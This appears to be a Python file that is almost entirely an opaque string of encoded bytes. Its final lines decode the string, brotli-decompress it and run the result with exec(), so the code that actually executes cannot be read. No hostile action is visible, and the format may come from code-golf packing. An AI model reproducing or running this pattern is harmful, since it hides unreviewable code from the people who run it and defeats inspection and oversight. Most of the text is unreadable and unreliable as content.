*1wφԕ?GF$K@Ι!:ca݂o1%GwlyN׊jεk,+c[Zyμ_ixWpu փW4$rg®Į|kH$!9ԢVݰH[GT19QKRVp`C?2Մߖɕ/HtV!ʰc'۞{&>W
΍kFr8B5ʠtRT.<01V5xK%jQ͒i}ˀ־tf4h[EQ"]aŪIObKqfkK%1ztR1N.D#0ar q7>ڢWQҋ$vf	x5ke<ĩq8Tg2YۿX˦lɪ2(H΀wtJ*jϻs	hZDڵލ`~3f#d'H2%6[MIT>8q]
S&}k\{`j}~NErTr]
q?V#;5(Edz}k{7n1ψͩhМ03r6ɨ\]a]TN0,#ζԖŀ܃y =[8_T4WDMdW[k.GY\j`Z86z&qmTSV/!jWhk4#C߷4W|(:j	W.$W؎Cךl$sq\p-Qi{,GzIG֤S.z
(/՟6aeئWJ"67OEzGL@BDdG͵Rgn	F=3u۲R֓"[O\.Pt"7b=8]ķ&tq8,S/Bx)_IYLc
͜B0΋TP
Lx\yl|E&a	+iڄ$_s[
7ts)+gPX.K9Oy\Lmֶ?UL\Fq a yTοyhP8װnc|?G(QE_LMп`RO@yu<nCr	qNa<Ѽ	v GGJ*iAAɲߟt,P̗GkyOf0Ck~<&7XVf'~UjP7@kZCzZ||[(}@o!gKwٜKǔQfۉz1hX`$7~5/JqchH$6`WTQ{4%Yd\r.B܆ AٮY
qh:֛JU.0]!-Ckq_Z!x84ogKdW6v#נ&=oArɑ	L\_[Q_;\?a-̋ЁWWf̜eXO˔-*Za9Fzq9Yɶ1=JM*x`Fe,a=E<qPTPh%:ӖAE)Τ Z(oL.(/nH]{?g[C=b
nJNU;|Z׹g]/oѸܘs]K_SS]@8	F+əy@>`6THL@ŭh;N:9	8$0tȠ~dj$=#g%tp"˯*ѯߚW~#tݻԌۂԠ"
;+ւ4s}8)Ho|HA߮Ҡݮ8F/,d26t-ZjHjFWغQ֭'#>ݰ^U]J~6Y^sw4qZ]6IGlF̷rw~~J~P	nxZ=Q 	lWɈ5*9޿A&e>è~n3ia04 Bvҕ @}ŲRi9&-muE" =C֯]zŎNPMB*"kl40B.˟֣_S1yƋӾj9!upƈ@2O͇TgNѠolĨD4RjjEpS<?JÂ
	[*̽Kjp
$+/k_߆OxA&='N~El4@ƫiaWf"gE.fu9U9e0S }Zę	2G./	WaT*
%Plh,4-Nij´9Įj?U)ƞM*!Cg=Hq!RvQC>8.$rO:#(Ix(Y՝=|;ǲ;6V:ul7~(ES7IJ7ءДDh%ڎ!6o0VFC31:s	M:suTSH[slZęw[Oώ+^<(v(WcW7u0
!ˬQ>'։H2NQ*gQBpdK`M̠oG7a=5l#zQƿ!ʲko1·_n$o2dÍII(ߦͨjtbcV:Ѵ"ޙ,#]bq9ZȰfUi4-%mGb^pnVzʽ3nG^ZcAg&65֕]};Nt$*ɼAub\+6ۦ_q]ǋ@-e.d4abvlx	8"BXY]RGq-#?C(?%ɽ/\7T40-roJ߀/ykb5xxSk)"{]ٖMVs Fi/2"ީ.ǉ^DgKg?-K[N=Ǻ!ƩlzSW,}0?0܌M75N:d߶BYeU~'8T4mmu7Ew'!ǞI)$eI^7o5EE$sFgFo:MP1A~Si׿oR.whh[@j}׎,ݫk4">iM!F'(7T2s18^'`;NC!mPPGRϰ3oOɘkT96&+Ap8̟ƵxeҤЭNŜӕP7Ǘs ]=4#G,ƳR3<!l=jƧW˛U[HZqKo2!9p?#kKwΓ=[S9RpwdC6I[.[H-bioۙƦpjc9ړ~h	+%*HKaJtK/w~g<KM])a/6ķ6FvMHSپy~I+5lyi@R۠WD?w"V=~wMm7޶0HE&}^@x(4Dj8#RƬ4E٩f8Dmg/ZZPT-U?g^$8tZm<!BIIC+pF=˫kڭ&d\Ƀki݈e,!g@{|*gԗA`XG7Bm]`ll#d~x@[gv<x0go!>oL8{XAL\aTkŕhgOȠ>y&rE;)ɲ5^$4'zGċ	9JN'kޣ}9U}B1V`n[F=LѬJA%6RY֗ѣqU%6>)P'vOSԗGھ~O1ߟ( 4_\4|?Sb;VE5KB"ˢuNz.}%̴5kB3eݰwm0u6]k}R9q-hPxzb@@7?@/(Ǫu/J.I3uȍþTOsjDЭKGuvyܷY-!pȤquH?Rͨo3UvՇDF7IťHڒ˵%MAf| ԍI?6wf&?;^gv
~X~#GEc:(˘1P׭͓	CϻE5L56ǿj/x:r"ĸtV0juAxR\Bܾ;NeY9FՒH[6W)vUb+,JaްCh/8cخRC{L_AyF8Z9'^n)ΜX)R$EÕDo-j&TgXwCG]]^zwi~#Nr%Q_15UO>&':VL٦cǤ0`ELuyjDѬ&a*U=ӻxiiJJC(,݄ >PtJ!eBGbPWڥc HI[_m:#G}͞/]uȰ[O6<rœ/e7\5x-]\PB$"j#9b8J'ž.YToBϑ^DB-/* ^{}nֹa5bEu$:vnǓPc҃ĔΡHbzѾ;}>F2;r<]_EŭndvȵES޳c0kE̚W˻pbς49n$E56^4;BQr̦d*evHqb+=q'ԼpT"ݤĥ^SU%­(j
%ې>ҁ>KxO4wĎ{Ø[LI'v!^L;*LUV/UKc&D)eӤŖ69ӅQHBڻe|7$U9ŖdmǵwʀG={KRwSiyD3O)pV;#+}|VVzh2\Fآ=_$Hp%*)$ŰeѣBt@r4M"^ܧBۣf)ƄO߹ܭ!7țZ}RDݨĆ_(>pڎ>d"s˞˔/txHjt+%#-KY68 Ζ"ɜ=])o[ϴ2Zg/@o-apg2dttL*Dul\7fw=)1l;hUQ;.ӥ	fN Rm6{vS>Mhԋdu̻jиy>1_8;H9݃ǯ(R8UhKr%
4<ϐOpRTc.('\Eֱ4q@q%WP˵X՚A<V{X\ݐ	]zNDvlC؟Cb5qڻA5I(|p:|QGѧNٷE*QvgA!~̐-l
3:'>Iv?+iťr+8,1-8JA'^g'įZr}.2Ej}V+Ai(E>a׊Qi{S*PV»[O:g^Vqcԓf{"w¸a`1t=ʩu_ _5Wv29,UIRTU4<Ƥ}'LȌ 
fB:GٓŒ6}$3m۝
p^*WhL~PV81Ue-m8o/am[!dN)Z8y%<LUony+d٦Zɬ<c*̷/iK1#F||Q^Ʀ'O|3"ɆT~8ac;}ȫڋWܑ($:צ!Gyq.>?߅493$,QuMc͝_Է]3xbGƺ~ɨ֡ӏԋb	&gZߖez:ejB5VIԘ|H.gc	[[N[_2Yd*ނasR5.W̴˓ػ]1g2<e>y"T.Vt/ 6E?b23S++&cG*'*-<0A<|iVP}B`h/eC&xɿO8f ROԐaQJOoGҁAߵ-_~9-Ze+NYĲ8jTfycZJfxȹ/ʺ(2pSNdj{tcK<ִ y;+%6M2;yxJ݋YWM7v\dxu.Pu+Y(К6"yz}EzQ#N(~O0eղ@dV(Nc:#Clǣ"YDdmli;7ҍsw\GYf53_(?`XÈ0X;Lgh]U~X&DլRUaTL>qZbmk9*_Uf=jq@gDcPr%8܌ã&UR:G1|7+`=#Lƣ؝(++пdrsNёVmDGHHRscDjgkZi!J)۵c%M;[{iܮvF57c-(+±h>h#Uxʇ/c=AeiEغ5:Al%)x,lV6Q؂"bԗg"]SHO^ZyG[ܘhhiqP^jck"Ƨ&U·wT_&\dټJv!V2KRϑCy,IA*hBUFrLMgJ3ɵ$9$9Յ;c/;@rCħvΝN'PnNPS'T)îrVzf.LٴB7*$0:V
KeEATDdW<ĈOfkMN'Y~Jt+IdSXŝVu9ٖ4JG_cDoFl.ߕԙE@2`[y;,_?Z˴\kL;Q->EhH\	,Y&BjiܛhCY!}Nѐ9Ba|b!F{dqEs'4&ǐJ2Ш4Z.}:rcO=i3F'urM~ǡ'ܤ2sl~Vy^I"-d8)kpi{p7xؙ5ǆ0Hsټ+S% ۷Ls@!ӵENT&2NӤqř%qcg05XRXvyxO xګ)-Eu҂EJ1ңSp-ʩWaGwA@8737րMXT|HIܦ	ΨQףQ#OI\fLF@9@;2d8íF#6aҫŉ^f1;:}Hڜwg_3Uؓ@@FbIǰ0͵m>v@܁i=:&oV;A|!ԥ8=wSxғ)Gމʒ&:@	@zĞ׉:fd[ˢ+d$@w#7lmvHCdV&HbF&H(3JA0j*e,xQMԆ$	ǗK:
OHXg
O@.:q-_F>dE'FZ݋[bAWn2-uyi6̕-A[f<Smݢ
Ip0x`a<<KJ5l$κՏۢ4a4ХΓu1Yz`EX&Pg//CMkFE}vL8{ՀBqݤ
pp	N_?=u<nL^@	Ԯ6/}[y6ep7?aL :3HK<E6g÷zߍ<uaKP=*ɤԍ+CZ̮)^I[Z̐K6ܬYfRKf;}Inj4:cLɟMWLs)3sK(y׀Q[Jx'uIzENh<@0؋_ITػf44_֭n>@Wmڸ)kƨHNye/2i37y_nuʄ:	:7RBy`ݥj6!w!ͱCC?82aȃjӗƆ̀=F/b|_ܶ"ңCY*O19B*_J>
{<yG&DΎ˒2knh6ʛlCO~iۼЂМt>ƍ-|ż3S_ˈ%7c^c%xi5iT55 Hvwt(ݜe]RAOΟK ?ՌS6POnٙPߦbE\FMڭԵwӔyk9uѤ-%%{Dbj,A
v\/5ΞVcE.'P0ƙj)
*CGYVّIac
QBQbBԽ/}eXھw{Op!4?S_?ڎU1
ܠҜ2_qN(-4[&c	{RҦ b}m|(QwEQ͏Ti@RQ̝)A3Y)Ԣw%_eŀEʆIJigtdǽqXҰ3&~܌lLg̟ޢS1Eri,n]s1=u-8h	Z
#Ld~{o~_֝W8zJ!o1.%_|?0r~VԜըݖdA[̅(Owp.S.Clwm6rЛ>s!ف,jit8U)ߥOޢC>#ބ҅zs	L[|3V3iOKZ%YǡedxO1KqtӞث2GWV׃ކ Wo=PsKBy:~!UFc8͏+"W9vοqsQ+rU9F_!lt#Qkg\]37Мǩb\/^+,ޝ6d0yFKʭExSyeެTWBXlf>a>bdV.$woes<j(XvtO$l'FL?s
rf	ɑ5C%Йg4\a_hJE{߳$ސ;ۻ|Х1rQZg"+ܬZzhY(N(dQu?݆<sъK#[՝%ψtdn'?	)CQHȷTǧLLE	VY_/ISmODyҴy3VmAM[Sbτ3˜l@"˸Rtm
>c`ŕS/O9jcjZ#:{`,1B5zB'عyғ+VQ*)IvLŗ<ŒC,ЮsEI+Dï!Sa:YӅ
n$}m;Q֎*Doj:%{c٨uΦvDNݗUx)0)
en	26e1DeWW@/rDiBuι=sI`;1T<dL{%@b	>F5<i0ֵAB$0:ғȴD+fUT5l6,
7׍]I!h߭}U('7%e~NWV֣côuj'?'b}!!Pb;ҌtŧvܾU'`[Nˬt,P3aw<NV9?@W
Tgݵ\Ne.Pr}$SI?HktɈT&[sB^t_*Cv9կF	Htơ<R6\A$!ٷ.d$#{KABg@č}.֞9DW
OHcDY,%YVƨTcYSLBʶX} ̣N4SUY+'A6ڐ8ti_v[XtH
vv ncpMjK1%5E@p\K=2:+?,JH(Qv\mȚ/l-B#i.,Ǘg_eiTTcdI#!A`܄z~=P5$¸LInt6ZJ}_vHRhٹ<hQL#NOPt¬NRkV*Ҟ5(ħ,]Ҹkܡ;.&E}ʖϪ̷AgDϤ.51
^=_:lQ|UlGéi#cVNIʺ8N0ԡ{͵p6b­˻^)0eFu_L(hS]//'ĕspY]h'7EƑrڌ
ɍ,br|khҒYtO%KF΃QQIn(_ZyAL98a'*Vӥoљ~ چ܉oԯIF$Z /FBrI>?ܴ?qɝ]cB.{16%Xkg X2.̲TAfsn)F;ԑ	SS5ѼCO^ɇ_rs0κT=`vc&Nևش^";Ka2.Sl(<aI̋*IC&P?Lax$v..Y#2BlˀW8L46U݋̵wN/MFߜԣZ+vIkdգyS߽z؇[TThHZ)\T%fK0OITL|~$amòl=b2-]
>KȉGb$]M=_k-	1ːJ@â.(2oAǃm*OOkYEw;k9djԢLZҬmSOTuۚ &gИ,LL\R̐SO%Kz*/b]7ÿZ$ڢdKk#M3ȗۙ{j2ƽTWx(w1F	e5y*H0#LYtڣc)wÚAY!Cױ$\ݗQ|(ύ|<s҈U0Rxs*"һp)Ӽ~ǒQˁBenR|(ȓ@Fj6Zu"ӦuMևCKá0"t$W fNhyT$g8Ǥo0	H6SFpqۖtH	@z<"Hx^+
bpb8	z,FIpTXƫ۱/8yf%nn1\@g x-ڗg?҆1]eѼsUfpg3FR	Pȗ#K!vK1JhN3_7Qf<=&N?Kh̅!Mqͬ\_/sʠvbΩ\"kՙޜʒ
kb&%0
HZ wwߑfI{
RYXN\7eRq{h_(aJ8-g/ 9Өƾ]%XӽjAǊ_P'5`v.b(}O\	ũ#ayq/ߛHV"fKBWGepuK$ىY7֬`Ɛs#Ǌ={Ĕ"Ȫ'=5s@@TߒLZ֐t+QpǜkYͩ#ch}ڬCV?؏"#بmlUњ6^E_T8OaKm8fn\U/?Q-ɧ|'pՈS]ů{8ò7kuYѥ\h$\ȱD
?Fp@)CއNJIcsnZ=?y-b%6͝G}K:mv!]fmKH32,Vs7ۊ%xG4_k~Ƌc1+؅9ʅ%3_;Wy	Ci):sqް*F{ڶ|:Ll\.`@A`/ZWbX־މDס0̕C2yнDNx\׺P5=(kD$%$|-G.\\pp`%solrO
Dz70&]d^-rgݪd:řQ͸KKfUAܥj`AU:ŁqCfҮR-S;ǨgK;Rl+$l(r9?b°ZHWrfʌQ:ŲͬELPU.m<Tf?B:zxױ>cWF+'v-7\.l l y}.A:91ҮpkrfV2&}Ǆ\OzOZL,ַvĿ@!"Rɸ˰_^E8itpN1{pus(n7ϳY%Rm+·M4n{(!(QW is6F,'F?FdIZ+)<af*G6?Ҙ,L57t*ysF>nt^?(H)Z|#sdKD3"20cZ-UTqpps%Mkr)ݎYEE\e-K'nKS!NN:>s>Y6RԇgfqI0wiߪ}q$%#}ȍD6)Bn}/Νc!QXذ:!Pm҂2uPv
6˰w[<b߷aJ(^THAvĘ93[8d!tɖ١%II
P$yўSŎBe#ݺ}5+A{*l4HwwoqIW`3l+fކԀe:wIHlъG"e3<DL`.OБi?	XO9\ˀ7yUOk;u"1ɏaUhaCNTO!Rwo1xAǁ;Ӫ0oFRπV[#z[;hʆdT;zatx@ȼ7vssGzPAzORc2?syRX܅NΟgr-/u?cX?z\e{q9fIm)Š(<i2YS4vdĀLV$GxMHjQ?dÙ9P@rcU+sG6Kɰ,e;\|{I#!E+UYcOf2)U2Ec8{٤A .Ԧy#t'>K @I=z.YҐ9
<?*M^߄^c>шnQUJ]C#%ϓeVގtkơ(0~>yD@.,f޻(Ӵ4#6WSP/`fET=Kh?:~b:?U1A׿(<E~gf}wـ
>?,wMC;e'}g~9bBMȰ&@lI
5EpUEn*ahyg
G$ko̙h<U'CYd.Kwgnby[&`:OS4PRo^a\`%Juܩ:1	J/I"L2&#FS#	<1sVi9I1W?@/:GX	s1UdβkƚܙHk*۬UW&GDexeI.&(62-L9]-Z8ԀRPpA1?׷kkL,wMFW7Λ&MHܐsnݙR[ϸ rE)ܫۦ7{((QNm*cP5c	d{uY)vQى׎b{l@:}e2jH @H8zGDކIĺM`,/aڅբ7|ۨg2G+л]q)aan|IA#[Ovl4%GTy62+r}4ҡp	߅ݥNPYAa&jJxJ~
]
2/~*JR1`dGFN~El)Hܭ@{\iJ@F$NU@ȵlPOd<)r4kvm0a̫cX+K`\tƓ1҃E<6OXzwJC$L1tƓ8uxGW&IeĘhV}lؕFmb9ޙ=" 9?ε9̓tN͇J}(Gګ[ոGȘ
*c7¼Sֲay}NI5X˷vBgV)r*Զ@}ԉ7M'aкvwc|̬պ<tPzĨȨ׵R`z?,xp!8&DR~01y>BbϺjd۵"FVdR}U=BѺBQ#7ZK$-.ayƙc3ބ:bN&$WɏRƴ-Kɸ+}@~-n%mזTbψQ
USMY6i÷\?3;(ʎy܎eO,0MF#?CE*g]L1Mxhtn*ҩ7)P6?͑_AA6(o+ʕ:Ix<3ii`< f[m߹k5^ܧLօLߏM.nϯkc %˟Os~}QArUWSҕ9IoI9jW܄ׇYA2TB"}paM̖߾(\]Ht(7R.( B0U:ZjhIJ&de3=N08O/ִC!&ML'17=֏v_+veĢ'ǂ#-^1/7eV5\|I_h̷C͛qҽtG)r"`vcѯ=zM?~?7J$emvt8"ǶZI%04D$[طT̀,81y?sldqi wo`
aAD!Gp#$a0;}e *AWݖi_h(][!{ʲB=a'wm/AIz]57C%v<cZ(O* Vq+2d!<eZؑ=.jO(ufn~&sŐ1r18&.,Qڂ6=Exh?J\yn*ެ<[0Ӡpp7c1%D:*'֮\(<6RCGz0$tu&qDT Z)BuaxL ?i
41rw*ױƲ̳p`; x ӐLx}j$E
NĐUY9tnKюKаv^O?߅a4LPxh_~S=Z)#ˋZzUtLMd)woTA6ĉWK:uQ<iw5?:a1pΫ5K	!Dzcqx,1<ĊR8)EtQHzE	K]ydlIxڮ0:A"[ZMxoKbtR>kIBa%]/Ta&ԑpv!+KN8?>G/˫e׉?t;ATQ:?!q@<ܴϐvMB&:zg1d:g8HţzέS>G9ҥkϞyՠ<B%
X[:_7yEGK<Ng#$9C[7	*6}5duMHնAn,PÔ`1O3a}McXׯH2Hdv)+cŕ@F_(ωEuuOs(p;lRnRc=fU.~D-oSmGW,x2OouL0dΡ
N]$B?EMd;t/WlQ]gcA*m#@Ej?x5(Q<; [UFQh}XR_(jMZÓǉ(g3@ev8M-{ߛةi޻VȼHvmXO	0o3ˉ]9zȩM9(*b4P/6saԘLU[KIjr٢ʞN5y1Ӄ.>D>˽Іր*MxoM*E_\i_I:*Sk@i%eK\[RWH$a,W^zYW{#uE&,^8Lu|13˴1ʯIբUq[މ`CB| ͉M\<݂vCҒ8i}A! vIN͆
HͺM\H׬_o28
7k.ލV	ɾޫ}N<bxl9.\fNlvy}`Sr0pS]ݫ{шaϤeD{T{iߙ4IU""aIk@×O"h6kn,?(DjO)|lgmfY؁Qޏ2en[ 7*pGgbQhppc!39FNpHspZ/+YRV=ѯhJxi4:l:AM{_wirt{EhsQ>
xaMߟ}pŏ(J<Ik3I%o00ʫZ4aToʶןD?ʘ!!44P!r[F@ |Oy`e:p@{d6o}>˟vkJ<D^:r}^TEؙ.zB/u	ƃ'~bpez/j(dϕ?FN&\4=Tr؏C(JLf'dmF;l-i#]nZ?Dͥ)H_3ɟҔ\Fj[G:5P\r߬ېtJfVFCԹGb|0Roʐʔ?eʧ\7ylʓ+"ŹVu'Onh=|F?ضC*81''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25319)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
